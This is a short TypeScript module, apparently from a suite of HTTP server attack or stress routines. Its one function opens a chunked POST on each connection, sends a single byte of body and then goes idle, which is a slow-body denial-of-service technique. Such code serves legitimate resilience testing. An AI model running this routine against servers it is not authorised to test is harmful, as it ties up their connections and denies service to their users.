import { type AttackOptions, head, onEachConnection } from "./attack.ts";

/** Starts a chunked body, whose size is unknown, and sends one byte of it. */
export function idleChunkedBodies(options: AttackOptions): Promise<void> {
  const { path = "/mutate" } = options;
  return onEachConnection(
    options,
    (socket) => void socket.write(`${head(`POST ${path}`, ["Transfer-Encoding: chunked"])}1\r\n{\r\n`),
  );
}
